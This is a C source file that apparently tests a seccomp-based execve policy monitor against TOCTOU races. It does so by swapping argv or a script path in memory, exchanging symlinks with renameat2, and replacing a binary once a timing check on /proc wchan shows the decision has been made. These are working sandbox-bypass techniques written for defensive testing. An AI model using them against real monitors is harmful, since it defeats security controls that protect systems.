/* atk_exec.c: execve raced four ways: argv swapped in memory, the binary replaced on disk
 * right after the decision, a "#!" script's path swapped in memory and as a symlink on disk. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/syscall.h>
#include <linux/fs.h>

#include "toctou.h"

static char *const no_env[] = { NULL };

/* The policy lets this program itself start (policyctl run decides the
 * first exec too), and says what else may run. */
static void
self_rule(FILE *out)
{
	char self[PATH_MAX];

	self_path(self);
	fprintf(out, "  - execve: filename eq \"%s\" then permit\n", self);
}

/* ---------------------------------------------------------------- */
/* execve-argv: argv[1] flips between "--safe" and "--evil"; the     */
/* probe exits 42 when it runs with --evil.                          */

static _Alignas(64) char arg_buf[16] = "--safe";
static char prog_path[PATH_MAX];

static void
argv_policy(const char *dir, FILE *out)
{
	self_rule(out);
	fprintf(out, "  - execve: argv sub \"--evil\" then deny[EACCES]\n");
	(void)dir;
}

static void
argv_setup(const char *dir)
{
	char here[PATH_MAX], from[PATH_MAX], to[PATH_MAX];

	self_dir(here);
	copy_file(pjoin(from, here, "probe_ok"), pjoin(to, dir, "prog"), 0755);
}

static void
argv_child(void *arg)
{
	char *argv[] = { "prog", arg_buf, NULL };
	struct flipper f;

	flip_start(&f, flip_mem, arg);
	execve(prog_path, argv, no_env);
}

static void
argv_run(const char *dir, long n, struct atk_result *r)
{
	struct memflip m = { arg_buf, { "--safe", "--evil" }, 6 };
	long i;

	pjoin(prog_path, dir, "prog");
	for (i = 0; i < n; i++)
		exec_attempt(argv_child, &m, r);
}

/* ---------------------------------------------------------------- */
/* execve-script: "ok.sh" flips with "no.sh"; both are "#!interp"    */
/* scripts with the same interpreter; only ok.sh may be executed     */
/* (the interpreter itself may not).                                 */

static _Alignas(64) char path_buf[PATH_MAX];

static void
script_policy(const char *dir, FILE *out)
{
	self_rule(out);
	fprintf(out, "  - execve: filename eq \"%s/ok.sh\" then permit\n"
	    "  - execve: then deny[EACCES]\n", dir);
}

static void
script_setup(const char *dir)
{
	char here[PATH_MAX], from[PATH_MAX], to[PATH_MAX], text[PATH_MAX + 64];

	self_dir(here);
	copy_file(pjoin(from, here, "probe_interp"), pjoin(to, dir, "interp"),
	    0755);
	snprintf(text, sizeof(text), "#!%s\n%d\n", to, PROBE_OK);
	put_file(pjoin(from, dir, "ok.sh"), text, 0755);
	snprintf(text, sizeof(text), "#!%s\n%d\n", to, PROBE_BAD);
	put_file(pjoin(from, dir, "no.sh"), text, 0755);
}

static void
path_child(void *arg)
{
	char *argv[] = { "script", NULL };
	struct flipper f;

	flip_start(&f, flip_mem, arg);
	execve(path_buf, argv, no_env);
}

static void
script_run(const char *dir, long n, struct atk_result *r)
{
	struct memflip m;
	char p[PATH_MAX];
	long i;

	pjoin(p, dir, "ok.sh");
	memcpy(path_buf, p, strlen(p) + 1);
	m.dst = path_buf + strlen(dir) + 1;
	m.val[0] = "ok";
	m.val[1] = "no";
	m.len = 2;
	for (i = 0; i < n; i++)
		exec_attempt(path_child, &m, r);
}

/* ---------------------------------------------------------------- */
/* execve-script-link: dir/s.sh is a symlink exchanged between        */
/* ok.sh and no.sh on disk (renameat2 RENAME_EXCHANGE with dir/spare). */
/* The kernel hands a "#!" interpreter the script's *name*, and the    */
/* interpreter opens it again: the decision, the exec and that open    */
/* each resolve the link anew.                                         */

struct xchg {
	char	a[PATH_MAX];
	char	b[PATH_MAX];
};

static void
flip_xchg(void *arg, unsigned phase)
{
	struct xchg *x = arg;

	(void)phase;
	(void)syscall(SYS_renameat2, AT_FDCWD, x->a, AT_FDCWD, x->b,
	    RENAME_EXCHANGE);
}

static void
link_setup(const char *dir)
{
	char p[PATH_MAX];

	script_setup(dir);
	pjoin(p, dir, "s.sh");
	(void)unlink(p);
	if (symlink("ok.sh", p) != 0)
		die("symlink %s: %s", p, strerror(errno));
	pjoin(p, dir, "spare");
	(void)unlink(p);
	if (symlink("no.sh", p) != 0)
		die("symlink %s: %s", p, strerror(errno));
}

static void
link_child(void *arg)
{
	char *argv[] = { "script", NULL };

	execve(arg, argv, no_env);
}

static void
link_run(const char *dir, long n, struct atk_result *r)
{
	struct xchg x;
	struct flipper f;
	char path[PATH_MAX];
	long i;

	r->mode = "renameat2-exchange";
	pjoin(x.a, dir, "s.sh");
	pjoin(x.b, dir, "spare");
	pjoin(path, dir, "s.sh");
	flip_start(&f, flip_xchg, &x);
	for (i = 0; i < n; i++)
		exec_attempt(link_child, path, r);
	flip_stop(&f);
}

/* ---------------------------------------------------------------- */
/* execve-replace: dir/ok is replaced by another binary right after  */
/* the monitor has decided, before the kernel opens it.              */
/*
 * dir/ok is a hard link to dir/A (the permitted probe) at the start of
 * every attempt; dir/B is the denied probe, linked as dir/ok.new.  A
 * thread of the exec'ing child watches the exec'ing thread's wchan: once
 * it has seen the thread waiting for the monitor's answer
 * (seccomp_do_user_notification) and then leave that wait, the decision
 * is made and answered, and it renames ok.new over ok.  B is never at
 * dir/ok while a decision is being made, so B running means the kernel
 * executed an image the monitor never decided on.  The exec'd path is
 * padded with "x/../" components so that the kernel's second lookup of
 * it takes long enough for the rename to land.
 */

struct replace {
	char		path[PATH_MAX];		/* dir/x/../x/../.../ok */
	char		ok[PATH_MAX], okx[PATH_MAX], a[PATH_MAX], b[PATH_MAX];
	pid_t		tid;			/* the exec'ing thread */
	atomic_int	ready;
};

static void
replace_policy(const char *dir, FILE *out)
{
	self_rule(out);
	/* The attack links images to dir/ok.tmp and dir/ok.new and renames
	 * them over dir/ok: moves that change what the rules decide, which
	 * the move check refuses unless the policy lets them cross; it does,
	 * so that the exec race itself is what is tried. */
	fprintf(out, "  - execve: filename eq \"%1$s/ok\" then permit\n"
	    "  - execve: then deny[EACCES]\n"
	    "  - rename: (filename eq \"%1$s/ok.tmp\" or filename eq "
	    "\"%1$s/ok.new\") and filename2 eq \"%1$s/ok\" then permit widen\n"
	    "  - link: (filename eq \"%1$s/A\" and filename2 eq \"%1$s/ok.tmp\")"
	    " or (filename eq \"%1$s/B\" and filename2 eq \"%1$s/ok.new\") "
	    "then permit widen\n", dir);
}

static void
replace_setup(const char *dir)
{
	char here[PATH_MAX], from[PATH_MAX], to[PATH_MAX];

	self_dir(here);
	copy_file(pjoin(from, here, "probe_ok"), pjoin(to, dir, "A"), 0755);
	copy_file(pjoin(from, here, "probe_bad"), pjoin(to, dir, "B"), 0755);
	make_dir(pjoin(to, dir, "x"));
}

static void *
replacer(void *arg)
{
	struct replace *x = arg;
	char wpath[64], buf[64];
	int fd, seen = 0;
	double deadline;

	snprintf(wpath, sizeof(wpath), "/proc/self/task/%d/wchan", (int)x->tid);
	if ((fd = open(wpath, O_RDONLY | O_CLOEXEC)) < 0)
		_exit(52);
	atomic_store(&x->ready, 1);
	deadline = now() + 5;
	while (now() < deadline) {
		ssize_t n = pread(fd, buf, sizeof(buf) - 1, 0);

		if (n < 0)
			break;
		buf[n] = '\0';
		/* the symbol may carry a compiler suffix (".isra.0") */
		if (strncmp(buf, "seccomp_do_user_notification", 28) == 0)
			seen = 1;
		else if (seen) {
			(void)rename(x->okx, x->ok);
			break;
		}
	}
	close(fd);
	return NULL;
}

static void
replace_child(void *arg)
{
	struct replace *x = arg;
	char *argv[] = { "ok", NULL };
	pthread_t th;

	x->tid = (pid_t)syscall(SYS_gettid);
	atomic_store(&x->ready, 0);
	if (pthread_create(&th, NULL, replacer, x) != 0)
		_exit(53);
	while (!atomic_load(&x->ready))
		;
	execve(x->path, argv, no_env);
}

static void
replace_run(const char *dir, long n, struct atk_result *r)
{
	struct replace *x = calloc(1, sizeof(*x));
	size_t len;
	long i;

	if (x == NULL)
		die("out of memory");
	r->mode = "wchan-sequenced";
	pjoin(x->ok, dir, "ok");
	pjoin(x->okx, dir, "ok.new");
	pjoin(x->a, dir, "A");
	pjoin(x->b, dir, "B");
	len = (size_t)snprintf(x->path, sizeof(x->path), "%s/", dir);
	while (len + 5 + 3 < sizeof(x->path) - 64) {
		memcpy(x->path + len, "x/../", 5);
		len += 5;
	}
	memcpy(x->path + len, "ok", 3);
	for (i = 0; i < n; i++) {
		char tmp[PATH_MAX];

		/* dir/ok := A, dir/ok.new := B */
		pjoin(tmp, dir, "ok.tmp");
		(void)unlink(tmp);
		if (link(x->a, tmp) != 0 || rename(tmp, x->ok) != 0)
			die("restore ok: %s", strerror(errno));
		(void)unlink(x->okx);
		if (link(x->b, x->okx) != 0)
			die("link B: %s", strerror(errno));
		exec_attempt(replace_child, x, r);
	}
	(void)unlink(x->okx);
	free(x);
}

static const struct atk_class classes[] = {
	{ "execve-argv", argv_policy, argv_setup, argv_run },
	{ "execve-replace", replace_policy, replace_setup, replace_run },
	{ "execve-script", script_policy, script_setup, script_run },
	{ "execve-script-link", script_policy, link_setup, link_run },
};

int
main(int argc, char **argv)
{
	return atk_main(argc, argv, classes, sizeof(classes) / sizeof(classes[0]));
}
